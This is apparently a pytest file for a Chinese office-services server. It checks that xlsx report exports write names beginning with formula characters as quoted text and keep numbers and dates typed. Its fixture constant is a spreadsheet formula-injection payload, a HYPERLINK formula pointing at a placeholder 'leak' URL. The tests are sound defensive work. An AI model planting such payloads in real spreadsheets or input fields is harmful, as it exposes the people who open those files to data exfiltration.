"""Every xlsx export is data: a name typed as a formula comes out as text, numbers as
numbers (read back with openpyxl, the way a spreadsheet would open the file)."""

from __future__ import annotations

import io
import uuid
from datetime import date, datetime
from typing import Any

from openpyxl import load_workbook

from server import xlsx
from server.clock import local
from tests.support import make_user
from tests.support.assessment import fresh_month
from tests.support.gym import MONTH as GYM_MONTH
from tests.support.procurement import BASE, at, make_cast, request_body

EVIL = '=HYPERLINK("http://x.example/?leak","点我")'


def _evil(tag: str = "") -> str:
    return f"{EVIL}{tag}{uuid.uuid4().hex[:6]}"


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text(content: bytes, name: str) -> None:
    """The name is in the workbook as a plain string cell, quoted; no cell is a formula."""
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = [c for c in cells if isinstance(c.value, str) and c.value.endswith(name)]
    assert found, name
    for cell in found:
        assert cell.data_type == "s"
        assert cell.value == "'" + name


def test_the_writer_quotes_every_formula_start_and_keeps_numbers():
    book = xlsx.Book()
    sheet = book.sheet("测试")
    risky = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "\x01x", "正常名称", "a=b"]
    sheet.row([*risky, 3, 2.5, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4), None, True])
    cells = _cells(book.data())
    assert [c.value for c in cells[: len(risky)]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "'\n=1",
        "\ufffdx",  # a character XML cannot hold, replaced (no longer a control character)
        "正常名称",
        "a=b",
    ]
    assert all(c.data_type == "s" for c in cells[: len(risky)])
    numbers = cells[len(risky) :]
    assert [c.data_type for c in numbers[:2]] == ["n", "n"]
    assert [c.value for c in numbers[:2]] == [3, 2.5]
    assert numbers[2].is_date and numbers[3].is_date
    assert numbers[4].value is None and numbers[5].value is True


async def test_the_procurement_report_writes_a_department_as_text(client):
    cast = await make_cast()
    department = _evil("处")
    requester = await make_user(department=department)
    head = await make_user("dept_head", department=department)
    now = at(0)  # tokens of tests live days from the real clock: this month
    created = await client.post(BASE, json=request_body(), headers=requester.with_headers(**now))
    assert created.status_code == 201, created.text
    rid = created.json()["id"]
    for actor, stage in ((head, "dept"), (cast.buyer, "procurement")):
        response = await client.post(
            f"{BASE}/{rid}/approve", json={"stage": stage}, headers=actor.with_headers(**now)
        )
        assert response.status_code == 200, response.text
    ordered = await client.post(
        f"{BASE}/{rid}/order",
        json={"supplier": "晨光", "amount_fen": 12_345},
        headers=cast.buyer.with_headers(**now),
    )
    assert ordered.status_code == 200, ordered.text
    month = local(datetime.fromisoformat(now["X-Test-Now"])).strftime("%Y-%m")
    report = await client.get(
        f"/api/v1/admin/procurement/report?month={month}&format=xlsx", headers=cast.admin.headers
    )
    assert report.status_code == 200
    _assert_text(report.content, department)
    sheet = load_workbook(io.BytesIO(report.content))["按部门"]
    row = next(r for r in sheet.iter_rows() if str(r[0].value).endswith(department))
    assert (row[1].data_type, row[1].value, row[2].data_type) == ("n", 1, "n")


async def test_the_gym_settlement_writes_a_gym_name_as_text(client):
    admin = await make_user("admin")
    name = _evil("馆")
    body = {
        "name": name,
        "address": "市政务中心东侧100米",
        "offer": "职工价 ¥30/次",
        "open_hours": "06:00-22:00",
        "walk_in": True,
    }
    created = await client.post("/api/v1/admin/gym/gyms", json=body, headers=admin.headers)
    assert created.status_code == 201, created.text
    report = await client.get(
        f"/api/v1/admin/gym/settlement?month={GYM_MONTH}&format=xlsx", headers=admin.headers
    )
    assert report.status_code == 200
    _assert_text(report.content, name)


async def test_the_assessment_scores_write_a_team_name_as_text(client):
    admin = await make_user("admin")
    contact = await make_user()
    name = _evil("队")
    created = await client.post(
        "/api/v1/admin/assessment/teams",
        json={
            "name": name,
            "service": "cleaning",
            "vendor": "测试物业服务有限公司",
            "contracted_headcount": 5,
            "contacts": [contact.employee_no],
        },
        headers=admin.headers,
    )
    assert created.status_code == 201, created.text
    report = await client.get(
        f"/api/v1/admin/assessment/scores?month={fresh_month()}&format=xlsx",
        headers=admin.headers,
    )
    assert report.status_code == 200
    _assert_text(report.content, name)


async def test_the_duty_report_writes_a_service_name_as_text(client):
    admin = await make_user("admin")
    name = _evil("业务")
    created = await client.post(
        "/api/v1/admin/duty/services",
        json={"name": name, "mode": "walk_in", "documents": ["身份证"], "minutes": 15},
        headers=admin.headers,
    )
    assert created.status_code == 201, created.text
    report = await client.get(
        "/api/v1/admin/duty/report?month=2026-06&format=xlsx", headers=admin.headers
    )
    assert report.status_code == 200
    _assert_text(report.content, name)
    sheet = load_workbook(io.BytesIO(report.content)).active
    row = next(r for r in sheet.iter_rows() if str(r[0].value).endswith(name))
    assert [c.data_type for c in row[1:6]] == ["n"] * 5


async def test_the_carwash_report_keeps_numbers_and_dates_typed(client):
    admin = await make_user("admin")
    report = await client.get(
        "/api/v1/admin/carwash/report?month=2026-02&format=xlsx", headers=admin.headers
    )
    assert report.status_code == 200
    book = load_workbook(io.BytesIO(report.content))
    assert not [c for c in _cells(report.content) if c.data_type == "f"]
    assert [book["汇总"][f"B{n}"].data_type for n in range(2, 6)] == ["n"] * 4
    first_day = book["每日洗车"]["A2"]
    assert first_day.is_date and first_day.value.date() == date(2026, 2, 1)
